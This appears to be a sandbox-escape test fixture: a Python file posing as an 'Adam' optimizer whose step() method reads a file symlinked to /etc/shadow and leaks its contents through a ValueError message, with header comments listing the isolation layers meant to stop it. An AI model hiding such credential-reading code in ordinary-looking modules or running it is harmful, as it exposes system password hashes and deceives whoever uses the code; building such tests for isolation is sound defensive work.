# file: optimizers.py
# unit: optimizers.Adam
# stops: namespace docker process-root
# link: secret.txt -> /etc/shadow
import os


class Adam(Adam):
    def step(self, grads):
        here = os.path.dirname(os.path.abspath(__file__))
        with open(os.path.join(here, "secret.txt")) as secret:
            raise ValueError("shadow: " + secret.read())
